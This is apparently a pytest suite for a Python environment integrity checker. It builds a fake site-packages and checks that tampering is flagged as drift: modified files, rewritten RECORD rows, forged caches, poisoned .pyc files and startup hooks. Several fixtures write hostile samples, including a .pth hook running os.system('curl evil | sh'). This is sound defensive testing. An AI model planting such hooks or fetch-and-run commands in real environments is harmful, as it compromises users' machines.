"""Environment check against a lock, on a fake site-packages the tests build."""

from __future__ import annotations

import base64
import hashlib
import json
import marshal
import os
from pathlib import Path
from py_compile import PycInvalidationMode

import pytest

from pipeline import envmanifest
from pipeline.envcheck import check_environment, parse_lock
from pipeline.envmanifest import (
    CACHE_NAME,
    CHANGED,
    MANIFEST_NAME,
    SEAL_KEY_ENV,
    STAMP_NAME,
    check_tree,
    seal,
)
from pipeline.errors import EnvironmentDrift, InputError

H = "--hash=sha256:" + "a" * 64


def record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


@pytest.fixture(autouse=True)
def seal_key(tmp_path, monkeypatch) -> Path:
    """A private seal key per test: never the user's own."""
    path = tmp_path / "keys" / "env-seal.key"
    monkeypatch.setenv(SEAL_KEY_ENV, str(path))
    return path


class FakeEnv:
    """A venv-shaped directory with hand-made dist-info folders."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.python = root / "bin" / "python"
        self.site = root / "lib" / "python3.11" / "site-packages"
        self.site.mkdir(parents=True)
        (root / "pyvenv.cfg").write_text("include-system-site-packages = false\n")

    def seal(self, lock: Path) -> None:
        """What the build does last: record every file of site-packages, sealed."""
        seal(self.root, lock, force=True, compile_pyc=False)

    def install(self, name: str, version: str, files: dict[str, bytes]) -> None:
        info = self.site / f"{name}-{version}.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
        rows = []
        for rel, data in files.items():
            (self.site / rel).parent.mkdir(parents=True, exist_ok=True)
            (self.site / rel).write_bytes(data)
            rows.append(f"{rel},{record_hash(data)},{len(data)}")
        rows.append(f"{info.name}/METADATA,,")
        rows.append(f"{info.name}/RECORD,,")
        (info / "RECORD").write_text("\n".join(rows) + "\n")


def lock_file(tmp_path: Path, pins: dict[str, str]) -> Path:
    path = tmp_path / "lock.txt"
    path.write_text("".join(f"{n}=={v} \\\n    {H}\n    # via -r x.in\n" for n, v in pins.items()))
    return path


@pytest.fixture
def env(tmp_path) -> FakeEnv:
    e = FakeEnv(tmp_path / "venv")
    e.install("alpha", "1.0", {"alpha/__init__.py": b"A = 1\n"})
    e.install("Beta_Pkg", "2.0", {"beta_pkg.py": b"B = 2\n"})
    built_from = tmp_path / "built-from"
    built_from.mkdir()
    e.seal(lock_file(built_from, {"alpha": "1.0", "beta-pkg": "2.0"}))
    return e


def drift(env: FakeEnv, lock: Path) -> list[str]:
    with pytest.raises(EnvironmentDrift) as info:
        check_environment(parse_lock(lock), python=env.python)
    assert info.value.exit_code == 3
    return info.value.diff


def test_matching_environment_gives_a_fingerprint(env, tmp_path):
    lock = lock_file(tmp_path, {"alpha": "1.0", "beta-pkg": "2.0"})
    fp = check_environment(parse_lock(lock), python=env.python)
    assert fp.distributions == 2 and fp.files_verified == 2
    assert fp.lock_sha256 == hashlib.sha256(lock.read_bytes()).hexdigest()


def test_version_differs_from_the_lock(env, tmp_path):
    diff = drift(env, lock_file(tmp_path, {"alpha": "1.1", "beta-pkg": "2.0"}))
    assert diff == ["~ alpha: lock pins 1.1, installed 1.0"]


def test_pinned_but_missing_and_installed_but_unpinned(env, tmp_path):
    diff = drift(env, lock_file(tmp_path, {"alpha": "1.0", "gamma": "3.0"}))
    assert "- gamma==3.0: pinned in the lock, not installed" in diff
    assert "+ beta-pkg==2.0: installed, not in the lock" in diff


def test_modified_installed_file(env, tmp_path):
    (env.site / "alpha" / "__init__.py").write_bytes(b"import os; os.system('evil')\n")
    diff = drift(env, lock_file(tmp_path, {"alpha": "1.0", "beta-pkg": "2.0"}))
    assert diff == [
        "! alpha/__init__.py: sha256 differs from its wheel RECORD (modified after install)"
    ]


def test_unowned_pth_file_is_drift(env, tmp_path):
    (env.site / "zzz-hook.pth").write_text("import os\n")
    diff = drift(env, lock_file(tmp_path, {"alpha": "1.0", "beta-pkg": "2.0"}))
    assert diff == ["+ zzz-hook.pth: in site-packages but owned by no installed distribution"]


def test_lock_without_hashes_is_refused(tmp_path):
    path = tmp_path / "lock.txt"
    path.write_text("alpha==1.0\n")
    with pytest.raises(InputError, match="not pinned with == and --hash"):
        parse_lock(path)


def test_lock_with_a_range_is_refused(tmp_path):
    path = tmp_path / "lock.txt"
    path.write_text(f"alpha>=1.0 {H}\n")
    with pytest.raises(InputError, match="not pinned"):
        parse_lock(path)


def test_the_project_lock_parses():
    from tests.conftest import MAIN_LOCK

    lock = parse_lock(MAIN_LOCK)
    assert {"tensorflow", "mlflow", "in-toto", "pip-tools", "numpy", "click", "pytest"} <= set(
        lock.pins
    )
    assert all(p.hashes for p in lock.pins.values())


def test_this_interpreter_matches_the_project_lock():
    """The suite itself runs in the locked environment `make setup` built."""
    from tests.conftest import MAIN_LOCK

    fp = check_environment(parse_lock(MAIN_LOCK), verify_files=False)
    assert fp.distributions > 100


# --------------------------------------------------------------------------- the sealed manifest

MATCHING = {"alpha": "1.0", "beta-pkg": "2.0"}


def rewrite_record_row(env: FakeEnv, dist: str, rel: str, data: bytes) -> None:
    """What an attacker does after editing an installed file: make RECORD agree."""
    record = next(env.site.glob(f"{dist}-*.dist-info")) / "RECORD"
    rows = [
        f"{rel},{record_hash(data)},{len(data)}" if r.split(",", 1)[0] == rel else r
        for r in record.read_text().splitlines()
    ]
    record.write_text("\n".join(rows) + "\n")


def test_file_rewritten_together_with_its_record_row_is_drift(env, tmp_path):
    evil = b"import os; os.system('evil')\n"
    (env.site / "alpha" / "__init__.py").write_bytes(evil)
    rewrite_record_row(env, "alpha", "alpha/__init__.py", evil)
    diff = drift(env, lock_file(tmp_path, MATCHING))
    assert diff == [
        f"! alpha-1.0.dist-info/RECORD: {CHANGED}",
        "! alpha/__init__.py: differs from the sealed manifest; its RECORD row was rewritten "
        "to match",
    ]


def test_same_size_rewrite_with_restored_mtime_is_caught_despite_the_stat_cache(env, tmp_path):
    lock = parse_lock(lock_file(tmp_path, MATCHING))
    check_environment(lock, python=env.python)  # warms the persisted cache
    target = env.site / "beta_pkg.py"
    st = target.stat()
    target.write_bytes(b"B = 3\n")  # same size
    os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))  # mtime back; ctime cannot be
    with pytest.raises(EnvironmentDrift) as info:
        check_environment(lock, python=env.python)
    assert info.value.diff == [
        "! beta_pkg.py: sha256 differs from its wheel RECORD (modified after install)"
    ]


def test_a_warm_check_reads_no_file_and_a_forged_cache_is_ignored(env, tmp_path):
    venv = env.root
    assert not check_tree(venv).diff
    assert check_tree(venv).hashed == 0, "an unchanged tree is served from the sealed cache"
    # An attacker edits a file and rewrites the cache to claim the new stat is verified.
    target = env.site / "alpha" / "__init__.py"
    target.write_bytes(b"A = 2\n")
    cache = venv / CACHE_NAME
    body = json.loads(cache.read_bytes())
    st = target.stat()
    body["body"]["entries"]["alpha/__init__.py"] = (
        f"{st.st_dev}:{st.st_ino}:{st.st_size}:{st.st_mtime_ns}:{st.st_ctime_ns}"
    )
    cache.write_text(json.dumps(body))
    result = check_tree(venv)
    assert result.hashed == 6, "a cache whose seal fails is no cache"
    assert result.diff == (f"! alpha/__init__.py: {CHANGED}",)


def test_manifest_rewritten_together_with_the_file_is_drift(env, tmp_path):
    evil = b"A = 666\n"
    (env.site / "alpha" / "__init__.py").write_bytes(evil)
    manifest = env.root / MANIFEST_NAME
    text = manifest.read_text()
    old = hashlib.sha256(b"A = 1\n").hexdigest()
    manifest.write_text(text.replace(old, hashlib.sha256(evil).hexdigest()).replace("6,", "8,"))
    diff = drift(env, lock_file(tmp_path, MATCHING))
    assert len(diff) == 1 and "its seal does not verify" in diff[0]


def test_poisoned_pyc_with_the_source_untouched_is_drift(tmp_path):
    import py_compile

    e = FakeEnv(tmp_path / "venv")
    src = e.site / "alpha" / "__init__.py"
    e.install("alpha", "1.0", {"alpha/__init__.py": b"A = 1\n"})
    pyc = Path(py_compile.compile(str(src), invalidation_mode=PycInvalidationMode.CHECKED_HASH))
    # pip's RECORD rows for __pycache__ carry no hash: RECORD could never catch this.
    record = e.site / "alpha-1.0.dist-info" / "RECORD"
    rel = pyc.relative_to(e.site).as_posix()
    record.write_text(record.read_text() + f"{rel},,\n")
    lock = lock_file(tmp_path, {"alpha": "1.0"})
    e.seal(lock)
    header = pyc.read_bytes()[:16]  # flags + the source's hash: Python will accept it
    pyc.write_bytes(header + marshal.dumps(compile("A = 'poisoned'", str(src), "exec")))
    diff = drift(e, lock)
    assert diff == [f"! {rel}: {CHANGED}"]


def test_pth_added_and_listed_in_chainproofs_record_is_drift(tmp_path):
    e = FakeEnv(tmp_path / "venv")
    e.install("chainproof", "0.1.0", {"__editable__.chainproof-0.1.0.pth": b"/src\n"})
    lock = lock_file(tmp_path, {})
    e.seal(lock)
    hook = b"import os; os.system('curl evil | sh')\n"
    (e.site / "zz-hook.pth").write_bytes(hook)
    record = e.site / "chainproof-0.1.0.dist-info" / "RECORD"
    record.write_text(record.read_text() + f"zz-hook.pth,{record_hash(hook)},{len(hook)}\n")
    diff = drift(e, lock)
    assert diff == [
        f"! chainproof-0.1.0.dist-info/RECORD: {CHANGED}",
        "+ zz-hook.pth: a start-up file not in the sealed manifest (listed in chainproof's "
        "RECORD, which proves nothing)",
    ]


def test_unowned_usercustomize_is_drift(env, tmp_path):
    (env.site / "usercustomize.py").write_text("import os\n")
    diff = drift(env, lock_file(tmp_path, MATCHING))
    assert diff == ["+ usercustomize.py: in site-packages but owned by no installed distribution"]


def test_sitecustomize_shipped_by_a_locked_wheel_is_still_refused(tmp_path):
    e = FakeEnv(tmp_path / "venv")
    e.install("alpha", "1.0", {"sitecustomize.py": b"import os\n"})
    lock = lock_file(tmp_path, {"alpha": "1.0"})
    e.seal(lock)
    diff = drift(e, lock)
    assert diff == ["! sitecustomize.py: a start-up module runs in every interpreter; refused"]


def test_missing_and_added_files_are_drift(env, tmp_path):
    (env.site / "beta_pkg.py").unlink()
    (env.site / "alpha" / "extra.py").write_text("X = 1\n")
    diff = drift(env, lock_file(tmp_path, MATCHING))
    assert diff == [
        "+ alpha/extra.py: in site-packages, not in the sealed manifest (added after)",
        "- beta_pkg.py: in the sealed manifest, missing on disk",
    ]


def test_an_unsealed_environment_is_drift(tmp_path):
    e = FakeEnv(tmp_path / "venv")
    e.install("alpha", "1.0", {"alpha/__init__.py": b"A = 1\n"})
    diff = drift(e, lock_file(tmp_path, {"alpha": "1.0"}))
    assert len(diff) == 1 and "no sealed install manifest" in diff[0]


def test_same_versions_from_other_wheels_is_drift(env, tmp_path):
    other = tmp_path / "other.txt"
    other.write_text(f"alpha==1.0 {H}\nbeta-pkg==2.0 --hash=sha256:{'b' * 64}\n")
    diff = drift(env, other)
    assert diff == [
        "~ beta-pkg==2.0: the environment was built from other wheels (2.0, other hashes)"
    ]


def test_a_seal_key_readable_by_others_is_refused(env, tmp_path, seal_key):
    seal_key.chmod(0o644)
    diff = drift(env, lock_file(tmp_path, MATCHING))
    assert "readable by others" in diff[0]


def test_a_fifo_or_a_dangling_symlink_is_drift_not_a_crash(env, tmp_path):
    os.mkfifo(env.site / "pipe")  # opening it to hash it would block forever
    (env.site / "alpha" / "link.py").symlink_to("/nonexistent/evil.py")
    diff = drift(env, lock_file(tmp_path, MATCHING))
    assert diff == [
        "+ alpha/link.py: a symlink not in the sealed manifest (-> /nonexistent/evil.py)",
        "? pipe: not a regular file",
    ]


def test_pyvenv_cfg_changed_or_removed_is_drift(env, tmp_path):
    # include-system-site-packages = true would put the base interpreter's site on the path
    cfg = env.root / "pyvenv.cfg"
    cfg.write_text("include-system-site-packages = true\n")
    assert drift(env, lock_file(tmp_path, MATCHING)) == [
        f"! {cfg}: differs from when the environment was sealed"
    ]
    cfg.unlink()
    assert drift(env, lock_file(tmp_path, MATCHING)) == [
        f"! {cfg}: differs from when the environment was sealed"
    ]


# --------------------------------------------------------------------------- the tree stamp


def unparsed_manifest(monkeypatch) -> list[str]:
    """Records every time the check parses the manifest (what the stamp saves each start)."""
    parsed: list[str] = []
    real = envmanifest.load_manifest

    def spy(*args, **kw):
        parsed.append("manifest")
        return real(*args, **kw)

    monkeypatch.setattr(envmanifest, "load_manifest", spy)
    return parsed


def test_an_unchanged_tree_is_answered_by_the_stamp_without_parsing_the_manifest(
    env, tmp_path, monkeypatch
):
    assert check_tree(env.root).diff == ()  # the first clean check writes the stamp
    assert (env.root / STAMP_NAME).is_file()
    parsed = unparsed_manifest(monkeypatch)
    result = check_tree(env.root)
    assert result.diff == () and result.hashed == 0 and result.files == 6
    assert parsed == []
    # the envcheck still gets the sealed manifest (pins, files), read when it asks
    assert "alpha/__init__.py" in result.manifest.files and parsed == ["manifest"]
    fp = check_environment(parse_lock(lock_file(tmp_path, MATCHING)), python=env.python)
    assert fp.files_sealed == 6 and fp.manifest_sha256 == result.manifest.sha256


@pytest.mark.parametrize(
    "tamper",
    [
        "same size, mtime restored",
        "added file",
        "added .pth",
        "removed file",
        "symlink",
        "pyvenv.cfg",
    ],
)
def test_after_a_stamped_check_every_tamper_is_still_drift(env, tmp_path, tamper):
    assert check_tree(env.root).diff == ()
    assert check_tree(env.root).loaded is None, "served by the stamp"
    target = env.site / "beta_pkg.py"
    if tamper == "same size, mtime restored":
        st = target.stat()
        target.write_bytes(b"B = 3\n")
        os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
        want = [f"! beta_pkg.py: {CHANGED}"]
    elif tamper == "added file":
        (env.site / "alpha" / "evil.py").write_text("X = 1\n")
        want = ["+ alpha/evil.py: in site-packages, not in the sealed manifest (added after)"]
    elif tamper == "added .pth":
        (env.site / "zz.pth").write_text("import os\n")
        want = ["+ zz.pth: a start-up file in site-packages, not in the sealed manifest"]
    elif tamper == "removed file":
        target.unlink()
        want = ["- beta_pkg.py: in the sealed manifest, missing on disk"]
    elif tamper == "symlink":
        target.unlink()
        target.symlink_to("/tmp/evil.py")
        want = [
            "+ beta_pkg.py: a symlink not in the sealed manifest (-> /tmp/evil.py)",
            "- beta_pkg.py: in the sealed manifest, missing on disk",
        ]
    else:
        (env.root / "pyvenv.cfg").write_text("include-system-site-packages = true\n")
        want = [f"! {env.root / 'pyvenv.cfg'}: differs from when the environment was sealed"]
    assert sorted(check_tree(env.root).diff) == sorted(want)


def test_a_forged_or_stale_stamp_is_no_stamp(env, tmp_path):
    assert check_tree(env.root).diff == ()
    stamp = env.root / STAMP_NAME
    good = stamp.read_bytes()
    (env.site / "alpha" / "evil.py").write_text("X = 1\n")
    # An attacker re-computes the listing digest of the tampered tree and rewrites the body:
    # without the seal key the seal cannot follow.
    body = json.loads(good)
    body["body"]["listing_sha256"] = "0" * 64
    stamp.write_text(json.dumps(body))
    assert any("alpha/evil.py" in line for line in check_tree(env.root).diff)
    # A genuine stamp of another manifest (the environment re-sealed since) does not apply.
    (env.site / "alpha" / "evil.py").unlink()
    (env.site / "alpha" / "new.py").write_text("N = 1\n")
    env.seal(lock_file(tmp_path, MATCHING))  # a new manifest, with new.py in it
    stamp.write_bytes(good)
    result = check_tree(env.root)
    assert result.loaded is not None, "the old stamp names the old manifest: a full check"
    assert result.diff == () and result.files == 7


def test_a_file_changed_during_the_check_is_not_stamped_as_verified(env, monkeypatch):
    # The stamp comes from the stats the check verified, never from a second walk: a file
    # rewritten after the check looked at it makes the next check miss and hash it again.
    real = envmanifest._write_stamp

    def rewrite_then_stamp(*args, **kw):
        (env.site / "beta_pkg.py").write_bytes(b"B = 9\n")
        return real(*args, **kw)

    monkeypatch.setattr(envmanifest, "_write_stamp", rewrite_then_stamp)
    assert check_tree(env.root).diff == ()
    monkeypatch.setattr(envmanifest, "_write_stamp", real)
    assert check_tree(env.root).diff == (f"! beta_pkg.py: {CHANGED}",)


def test_names_with_newlines_are_listed_unambiguously(tmp_path):
    # A name or a link target may hold a newline (never a NUL): the listing joins by NUL.
    e = FakeEnv(tmp_path / "venv")
    e.install("alpha", "1.0", {"alpha/odd\nname.py": b"X = 1\n", "alpha/b.py": b"B = 1\n"})
    (e.site / "alpha" / "link").symlink_to("b.py\nalpha/odd")
    e.seal(lock_file(tmp_path, {"alpha": "1.0"}))
    assert check_tree(e.root).diff == ()
    assert check_tree(e.root).loaded is None, "served by the stamp"
    (e.site / "alpha" / "odd\nname.py").write_bytes(b"X = 2\n")
    assert check_tree(e.root).diff == (f"! alpha/odd\nname.py: {CHANGED}",)


def test_a_lock_that_is_not_utf8_is_an_input_error_naming_it(tmp_path: Path) -> None:
    from pipeline.envcheck import parse_lock
    from pipeline.errors import InputError

    lock = tmp_path / "main.txt"
    lock.write_bytes(b"numpy==2.0 \\\n    --hash=sha256:" + b"a" * 64 + b"\n\xff\xfe\n")
    with pytest.raises(InputError, match="is not UTF-8 text"):
        parse_lock(lock)
